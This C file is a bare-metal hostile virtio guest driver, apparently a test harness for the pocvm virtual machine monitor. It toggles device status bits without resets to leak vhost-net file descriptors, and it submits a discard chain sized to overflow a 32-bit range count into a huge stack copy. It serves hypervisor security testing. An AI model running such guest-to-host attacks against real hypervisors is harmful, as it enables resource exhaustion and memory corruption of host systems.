// SPDX-License-Identifier: GPL-2.0
/*
 * A hostile virtio driver, bare metal: what a compromised guest kernel
 * could do to pocvm's devices, without a kernel's driver in the way.
 *
 *  1. virtio-net (vhost=1): clear DRIVER_OK, and FEATURES_OK, then set
 *     them again, 1000 times, never writing 0 (a reset). A device that
 *     re-runs its driver_ok hook each time opens one more vhost-net fd.
 *  2. virtio-blk: the same toggles with reads in flight.
 *  3. virtio-blk: a discard (or write-zeroes) whose readable chain sums
 *     to 2^36 + 16 bytes: a 32-bit range count sees one range, and a
 *     device that trusts it copies 64 GiB into its stack.
 *
 * It prints what it saw as "ATTACK-..." lines. Before and after each
 * batch of toggles it prints "PHASE name" and waits for one byte on the
 * UART, so the host side can count pocvm's fds at a moment it chooses
 * (no sleeps on either side). Then it powers off.
 *
 * The MMU stays off: every access is Device-nGnRnE, which keeps the
 * rings coherent with pocvm's view under TCG (which models no caches)
 * and needs -mstrict-align. MMIO goes through single ldr/str so that
 * KVM always has a syndrome to emulate it from.
 */
#include <stddef.h>
#include <stdint.h>

#define UART_BASE		0x01000000UL
#define UART_LSR		5
#define UART_LSR_DR		0x01

#define VIRTIO_BASE		0x03000000UL	/* kvmtool's layout */
#define VIRTIO_STRIDE		0x200UL
#define VIRTIO_WINDOWS		32
#define VIRTIO_MAGIC		0x74726976	/* "virt" */

#define REG_MAGIC		0x000
#define REG_VERSION		0x004
#define REG_DEVICE_ID		0x008
#define REG_DEV_FEATURES	0x010
#define REG_DEV_FEATURES_SEL	0x014
#define REG_DRV_FEATURES	0x020
#define REG_DRV_FEATURES_SEL	0x024
#define REG_QUEUE_SEL		0x030
#define REG_QUEUE_NUM_MAX	0x034
#define REG_QUEUE_NUM		0x038
#define REG_QUEUE_READY		0x044
#define REG_QUEUE_NOTIFY	0x050
#define REG_STATUS		0x070
#define REG_QUEUE_DESC_LO	0x080
#define REG_QUEUE_DESC_HI	0x084
#define REG_QUEUE_DRIVER_LO	0x090
#define REG_QUEUE_DRIVER_HI	0x094
#define REG_QUEUE_DEVICE_LO	0x0a0
#define REG_QUEUE_DEVICE_HI	0x0a4

#define ST_ACK			0x01
#define ST_DRIVER		0x02
#define ST_DRIVER_OK		0x04
#define ST_FEATURES_OK		0x08
#define ST_NEEDS_RESET		0x40
#define ST_BASE			(ST_ACK | ST_DRIVER | ST_FEATURES_OK)

#define F_VERSION_1		(1ULL << 32)
#define BLK_F_DISCARD		(1ULL << 13)
#define BLK_F_WRITE_ZEROES	(1ULL << 14)

#define BLK_T_IN		0
#define BLK_T_DISCARD		11
#define BLK_T_WRITE_ZEROES	13

#define DESC_F_NEXT		1
#define DESC_F_WRITE		2
#define AVAIL_F_NO_INTERRUPT	1

#define QSZ			128
#define TOGGLES			1000
/* Read requests kept in flight during the blk toggles: 3 descs each. */
#define READ_SLOTS		(QSZ / 3)

/*
 * The evil chain: header, then BIG_DESCS descriptors of BIG_LEN and one
 * of TAIL_LEN, all over the same bytes, so the ranges part sums to
 * 120 * 544 MiB + 256 MiB + 16 = 2^36 + 16 bytes. A descriptor must lie
 * in guest RAM, and the device takes at most 128 segments per chain:
 * 2^36 / 126 is why the guest needs more than 544 MiB of RAM (-m 1G).
 */
#define BIG_DESCS		120
#define BIG_LEN			0x22000000U
#define TAIL_LEN		(0x10000000U + 16)

struct desc {
	uint64_t addr;
	uint32_t len;
	uint16_t flags;
	uint16_t next;
};

struct ring {
	struct desc desc[QSZ] __attribute__((aligned(16)));
	struct {
		uint16_t flags;
		uint16_t idx;
		uint16_t ring[QSZ];
		uint16_t used_event;
	} avail __attribute__((aligned(4)));
	struct {
		uint16_t flags;
		uint16_t idx;
		struct {
			uint32_t id;
			uint32_t len;
		} ring[QSZ];
		uint16_t avail_event;
	} used __attribute__((aligned(4096)));
	uint16_t last_used;
};

struct blk_hdr {
	uint32_t type;
	uint32_t reserved;
	uint64_t sector;
};

struct blk_range {
	uint64_t sector;
	uint32_t count;
	uint32_t flags;
};

static struct ring blk_ring, net_ring[2];
static struct blk_hdr hdrs[READ_SLOTS];
static uint8_t statuses[READ_SLOTS];
static uint8_t sectors[READ_SLOTS][512] __attribute__((aligned(512)));
/* What every big descriptor points at: one real range, sector 0. */
static struct blk_range evil_range __attribute__((aligned(16)));
static uint8_t evil_status;
static uint64_t timer_hz;

/* gcc may call these even when freestanding. */
void *memset(void *s, int c, size_t n)
{
	volatile uint8_t *p = s;

	while (n--)
		*p++ = c;
	return s;
}

void *memcpy(void *d, const void *s, size_t n)
{
	volatile uint8_t *p = d;
	const uint8_t *q = s;

	while (n--)
		*p++ = *q++;
	return d;
}

static uint32_t mmio_read(uintptr_t addr)
{
	uint32_t v;

	asm volatile("ldr %w0, [%1]" : "=r"(v) : "r"(addr) : "memory");
	return v;
}

static void mmio_write(uintptr_t addr, uint32_t v)
{
	/* Ring writes must reach pocvm before the register write does. */
	asm volatile("dsb sy\n\tstr %w0, [%1]" : : "r"(v), "r"(addr)
		     : "memory");
}

static uint8_t uart_read(unsigned int reg)
{
	uint8_t v;

	asm volatile("ldrb %w0, [%1]" : "=r"(v) : "r"(UART_BASE + reg)
		     : "memory");
	return v;
}

static void putc_(char c)
{
	asm volatile("strb %w0, [%1]" : : "r"(c), "r"(UART_BASE) : "memory");
}

static void puts_(const char *s)
{
	while (*s)
		putc_(*s++);
}

static void puthex(uint64_t v)
{
	int i = 60;

	puts_("0x");
	while (i > 0 && !(v >> i))
		i -= 4;
	for (; i >= 0; i -= 4)
		putc_("0123456789abcdef"[(v >> i) & 15]);
}

static void putdec(uint64_t v)
{
	char buf[21];
	int i = sizeof(buf) - 1;

	buf[i] = 0;
	do {
		buf[--i] = '0' + v % 10;
		v /= 10;
	} while (v);
	puts_(buf + i);
}

static uint64_t now(void)
{
	uint64_t v;

	asm volatile("isb\n\tmrs %0, cntvct_el0" : "=r"(v) : : "memory");
	return v;
}

/*
 * Tell the host which phase this is and wait for its byte: the host
 * counts pocvm's fds in between. A host that never answers costs
 * 10 minutes, then the run goes on (and the case fails on its counts).
 */
static void phase(const char *name)
{
	uint64_t end = now() + 600 * timer_hz;

	puts_("PHASE ");
	puts_(name);
	puts_("\n");
	while (!(uart_read(UART_LSR) & UART_LSR_DR)) {
		if (now() > end) {
			puts_("ATTACK-NO-GO ");
			puts_(name);
			puts_("\n");
			return;
		}
	}
	uart_read(0);
}

static uintptr_t find_device(uint32_t id)
{
	uintptr_t base;
	unsigned int i;

	for (i = 0; i < VIRTIO_WINDOWS; i++) {
		base = VIRTIO_BASE + i * VIRTIO_STRIDE;
		/* An empty window reads as zero in pocvm. */
		if (mmio_read(base + REG_MAGIC) == VIRTIO_MAGIC &&
		    mmio_read(base + REG_VERSION) == 2 &&
		    mmio_read(base + REG_DEVICE_ID) == id)
			return base;
	}
	return 0;
}

static void set_status(uintptr_t dev, uint32_t st)
{
	mmio_write(dev + REG_STATUS, st);
}

static uint32_t status(uintptr_t dev)
{
	return mmio_read(dev + REG_STATUS);
}

static int queue_ready(uintptr_t dev, unsigned int index, struct ring *r)
{
	uintptr_t d = (uintptr_t)r->desc, a = (uintptr_t)&r->avail;
	uintptr_t u = (uintptr_t)&r->used;

	mmio_write(dev + REG_QUEUE_SEL, index);
	if (mmio_read(dev + REG_QUEUE_NUM_MAX) < QSZ)
		return -1;
	mmio_write(dev + REG_QUEUE_NUM, QSZ);
	mmio_write(dev + REG_QUEUE_DESC_LO, d);
	mmio_write(dev + REG_QUEUE_DESC_HI, (uint64_t)d >> 32);
	mmio_write(dev + REG_QUEUE_DRIVER_LO, a);
	mmio_write(dev + REG_QUEUE_DRIVER_HI, (uint64_t)a >> 32);
	mmio_write(dev + REG_QUEUE_DEVICE_LO, u);
	mmio_write(dev + REG_QUEUE_DEVICE_HI, (uint64_t)u >> 32);
	mmio_write(dev + REG_QUEUE_READY, 1);
	return mmio_read(dev + REG_QUEUE_READY) == 1 ? 0 : -1;
}

/*
 * The driver side of 3.1.1 done properly: reset, negotiate want & what
 * is offered, set up the queues, DRIVER_OK. Returns the features taken
 * (0 on failure).
 */
static uint64_t dev_start(uintptr_t dev, uint64_t want, struct ring *rings,
			  unsigned int nr)
{
	uint64_t offered;
	unsigned int i;

	set_status(dev, 0);
	set_status(dev, ST_ACK);
	set_status(dev, ST_ACK | ST_DRIVER);
	mmio_write(dev + REG_DEV_FEATURES_SEL, 0);
	offered = mmio_read(dev + REG_DEV_FEATURES);
	mmio_write(dev + REG_DEV_FEATURES_SEL, 1);
	offered |= (uint64_t)mmio_read(dev + REG_DEV_FEATURES) << 32;
	want = (want & offered) | F_VERSION_1;
	mmio_write(dev + REG_DRV_FEATURES_SEL, 0);
	mmio_write(dev + REG_DRV_FEATURES, want);
	mmio_write(dev + REG_DRV_FEATURES_SEL, 1);
	mmio_write(dev + REG_DRV_FEATURES, want >> 32);
	set_status(dev, ST_BASE);
	if (!(status(dev) & ST_FEATURES_OK))
		return 0;
	for (i = 0; i < nr; i++) {
		memset(&rings[i], 0, sizeof(rings[i]));
		rings[i].avail.flags = AVAIL_F_NO_INTERRUPT;
		if (queue_ready(dev, i, &rings[i]))
			return 0;
	}
	set_status(dev, ST_BASE | ST_DRIVER_OK);
	return want;
}

/*
 * Take status bits back without a reset: odd rounds only DRIVER_OK,
 * even rounds FEATURES_OK too, which unreadies the queues on a device
 * that obeys the write, so they are readied again before DRIVER_OK.
 * Returns the status read back right after the first clearing write.
 */
static uint32_t toggle(uintptr_t dev, unsigned int nr, unsigned int round)
{
	uint32_t seen;
	unsigned int i;

	if (round & 1) {
		set_status(dev, ST_BASE);
		seen = status(dev);
	} else {
		set_status(dev, ST_ACK | ST_DRIVER);
		seen = status(dev);
		set_status(dev, ST_BASE);
		for (i = 0; i < nr; i++) {
			mmio_write(dev + REG_QUEUE_SEL, i);
			mmio_write(dev + REG_QUEUE_READY, 1);
		}
	}
	set_status(dev, ST_BASE | ST_DRIVER_OK);
	return seen;
}

static void report_toggles(const char *what, uintptr_t dev, uint32_t first)
{
	uint32_t st = status(dev);

	puts_("ATTACK-TOGGLES ");
	puts_(what);
	puts_(" rounds=");
	putdec(TOGGLES);
	puts_(" first-readback=");
	puthex(first);
	puts_(" status=");
	puthex(st);
	puts_(st & ST_NEEDS_RESET ? " needs-reset=1\n" : " needs-reset=0\n");
}

static void toggle_net(void)
{
	uintptr_t dev = find_device(1);
	uint32_t first = 0;
	unsigned int i;

	if (!dev || !dev_start(dev, 0, net_ring, 2)) {
		puts_("ATTACK-ERROR no working virtio-net\n");
		return;
	}
	phase("net-toggles-start");
	for (i = 0; i < TOGGLES; i++) {
		uint32_t seen = toggle(dev, 2, i);

		if (!i)
			first = seen;
	}
	report_toggles("net", dev, first);
	phase("net-toggles-done");
	set_status(dev, 0);
}

/* Offer the chain at head on queue 0 and kick; no wait. */
static void submit(uintptr_t dev, struct ring *r, uint16_t head)
{
	r->avail.ring[r->avail.idx % QSZ] = head;
	asm volatile("dsb sy" : : : "memory");
	r->avail.idx++;
	mmio_write(dev + REG_QUEUE_NOTIFY, 0);
}

static void queue_read(uintptr_t dev, unsigned int slot, uint64_t sector)
{
	struct desc *d = &blk_ring.desc[slot * 3];
	uint16_t head = slot * 3;

	hdrs[slot].type = BLK_T_IN;
	hdrs[slot].reserved = 0;
	hdrs[slot].sector = sector;
	statuses[slot] = 0xff;
	d[0].addr = (uintptr_t)&hdrs[slot];
	d[0].len = sizeof(hdrs[slot]);
	d[0].flags = DESC_F_NEXT;
	d[0].next = head + 1;
	d[1].addr = (uintptr_t)sectors[slot];
	d[1].len = sizeof(sectors[slot]);
	d[1].flags = DESC_F_WRITE | DESC_F_NEXT;
	d[1].next = head + 2;
	d[2].addr = (uintptr_t)&statuses[slot];
	d[2].len = 1;
	d[2].flags = DESC_F_WRITE;
	d[2].next = 0;
	submit(dev, &blk_ring, head);
}

/* Wait up to a minute for the next used entry; 0 if none came. */
static int wait_used(struct ring *r)
{
	uint64_t end = now() + 60 * timer_hz;

	while (*(volatile uint16_t *)&r->used.idx == r->last_used)
		if (now() > end)
			return 0;
	r->last_used++;
	return 1;
}

static void toggle_blk(uintptr_t dev)
{
	uint32_t first = 0;
	unsigned int i;

	if (!dev_start(dev, 0, &blk_ring, 1)) {
		puts_("ATTACK-ERROR no working virtio-blk\n");
		return;
	}
	phase("blk-toggles-start");
	for (i = 0; i < TOGGLES; i++) {
		uint32_t seen;

		/* A read on its way to the image while the bits flip. */
		queue_read(dev, i % READ_SLOTS, i % 64);
		seen = toggle(dev, 1, i);
		if (!i)
			first = seen;
	}
	report_toggles("blk", dev, first);
	phase("blk-toggles-done");
}

/* The 2^36 + 16 byte chain of type (discard or write zeroes). */
static void evil_chain(uintptr_t dev, uint32_t type, const char *name)
{
	struct desc *d = blk_ring.desc;
	unsigned int i, n = 0;
	int done;

	hdrs[0].type = type;
	hdrs[0].reserved = 0;
	hdrs[0].sector = 0;
	/* Should any device act on it: a real range, and a visible one. */
	evil_range.sector = 0;
	evil_range.count = 8;
	evil_range.flags = 0;
	d[n].addr = (uintptr_t)&hdrs[0];
	d[n].len = sizeof(hdrs[0]);
	for (i = 0; i <= BIG_DESCS; i++) {
		d[n].flags = DESC_F_NEXT;
		d[n].next = n + 1;
		n++;
		d[n].addr = (uintptr_t)&evil_range;
		d[n].len = i < BIG_DESCS ? BIG_LEN : TAIL_LEN;
	}
	d[n].flags = DESC_F_NEXT;
	d[n].next = n + 1;
	n++;
	evil_status = 0xff;
	d[n].addr = (uintptr_t)&evil_status;
	d[n].len = 1;
	d[n].flags = DESC_F_WRITE;
	d[n].next = 0;
	puts_("ATTACK-EVIL-CHAIN ");
	puts_(name);
	puts_(" descriptors=");
	putdec(n + 1);
	puts_(" range-bytes=");
	puthex((uint64_t)BIG_DESCS * BIG_LEN + TAIL_LEN);
	puts_("\n");
	submit(dev, &blk_ring, 0);
	done = wait_used(&blk_ring);
	puts_("ATTACK-EVIL-RESULT ");
	puts_(name);
	puts_(done ? " completed=1" : " completed=0");
	puts_(" status-byte=");
	putdec(*(volatile uint8_t *)&evil_status);
	puts_(" device-status=");
	puthex(status(dev));
	puts_("\n");
}

static void attack_blk(void)
{
	uintptr_t dev = find_device(2);
	uint64_t feat;
	unsigned int i;
	int done;

	if (!dev) {
		puts_("ATTACK-ERROR no virtio-blk\n");
		return;
	}
	toggle_blk(dev);
	/* A reset is the one legal way back: start over cleanly. */
	feat = dev_start(dev, BLK_F_DISCARD | BLK_F_WRITE_ZEROES,
			 &blk_ring, 1);
	puts_("ATTACK-BLK-FEATURES ");
	puthex(feat);
	puts_("\n");
	if (!feat)
		return;
	if (feat & BLK_F_DISCARD)
		evil_chain(dev, BLK_T_DISCARD, "discard");
	if (feat & BLK_F_WRITE_ZEROES)
		evil_chain(dev, BLK_T_WRITE_ZEROES, "write-zeroes");
	if (!(feat & (BLK_F_DISCARD | BLK_F_WRITE_ZEROES)))
		puts_("ATTACK-ERROR neither discard nor write zeroes "
		      "offered\n");
	/* Still a disk? Read sector 0 back (the range pointed there). */
	queue_read(dev, 1, 0);
	done = wait_used(&blk_ring);
	puts_("ATTACK-READ-AFTER completed=");
	putdec(done);
	puts_(" status-byte=");
	putdec(*(volatile uint8_t *)&statuses[1]);
	puts_(" first-bytes=");
	for (i = 0; i < 8; i++)
		puthex(sectors[1][i]), putc_(i < 7 ? ',' : '\n');
	set_status(dev, 0);
}

void attack_main(void)
{
	asm volatile("mrs %0, cntfrq_el0" : "=r"(timer_hz));
	puts_("ATTACK-START\n");
	toggle_net();
	attack_blk();
	puts_("PHASE done\n");
}
